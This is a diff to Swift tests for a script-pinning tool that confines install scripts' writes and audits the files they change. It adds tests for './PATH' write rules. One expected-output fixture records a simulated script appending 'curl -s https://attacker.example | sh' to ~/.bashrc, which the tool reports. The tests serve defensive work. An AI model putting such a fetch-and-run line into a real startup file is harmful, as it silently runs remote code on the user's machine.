@@ -130,10 +130,16 @@ struct WriteConfinementTests {
         #expect(result.stderr.hasSuffix("""
             scriptpin: files: 9 changes made on the host, 0 discarded
             scriptpin: write audit: the script changed 9 paths; these suggested lines in its pin allow exactly them:
+            write ./src/main.c
+            write ./work/cache/new.txt
+            write ./work/cache/old.txt
+            write ./work/mode.txt
+            write ./work/new-name.txt
+            write ./work/old-name.txt
+            write ./work/remove.txt
             write ~/.bashrc
             write ~/.local
             write ~/.tool/state
-            write .
             scriptpin: ~/.bashrc: +1 -0 lines: curl -s https://attacker.example | sh
             scriptpin: ./src/main.c: +1 -0 lines: injected
 
@@ -288,12 +294,14 @@ struct WriteConfinementTests {
         func parse(_ lines: String) -> Result<ParsedPin, PinFailure> {
             PinDocument.parse(Array("url https://example.com/i.sh\nsha256 \(digest)\n\(lines)".utf8), name: "i", path: "known-hashes/i.pin")
         }
-        guard case .success(let parsed) = parse("write ~/.rustup\nwrite .\nwrite /opt/tool\n") else { Issue.record("valid"); return }
-        #expect(parsed.pin.write == [.path("~/.rustup"), .path("."), .path("/opt/tool")])
-        #expect(PinDocument(pin: parsed.pin).render().hasSuffix("write ~/.rustup\nwrite .\nwrite /opt/tool\n"))
+        guard case .success(let parsed) = parse("write ~/.rustup\nwrite .\nwrite ./build\nwrite /opt/tool\n") else { Issue.record("valid"); return }
+        #expect(parsed.pin.write == [.path("~/.rustup"), .path("."), .path("./build"), .path("/opt/tool")])
+        #expect(PinDocument(pin: parsed.pin).render().hasSuffix("write ~/.rustup\nwrite .\nwrite ./build\nwrite /opt/tool\n"))
+        #expect(WriteRule.path("./build").absolutePath(home: "/home/ci", workingDirectory: "/work") == "/work/build")
+        #expect(WriteRule.path("~/.cargo").absolutePath(home: "/home/ci", workingDirectory: "/work") == "/home/ci/.cargo")
         for (lines, message) in [
-            ("write relative/path\n", "'relative/path' is not a write path; write /PATH, ~/PATH, . (the working directory) or none"),
-            ("write /opt/../etc\n", "'/opt/../etc' is not a write path; write /PATH, ~/PATH, . (the working directory) or none"),
+            ("write relative/path\n", "'relative/path' is not a write path; write /PATH, ~/PATH, . or ./PATH (the working directory, or a path in it) or none"),
+            ("write /opt/../etc\n", "'/opt/../etc' is not a write path; write /PATH, ~/PATH, . or ./PATH (the working directory, or a path in it) or none"),
             ("write none\nwrite /opt\n", "`write none` and write paths contradict each other; keep one or the other"),
             ("write /proc/sys/kernel\n", "write /proc/sys/kernel: /proc is the kernel's, and a script never gets to write it; remove the line"),
             ("write /home/runner/work/_temp/_runner_file_commands\n", "write /home/runner/work/_temp/_runner_file_commands: the runner reads the files there to change later steps, which is what write lines protect; remove the line"),
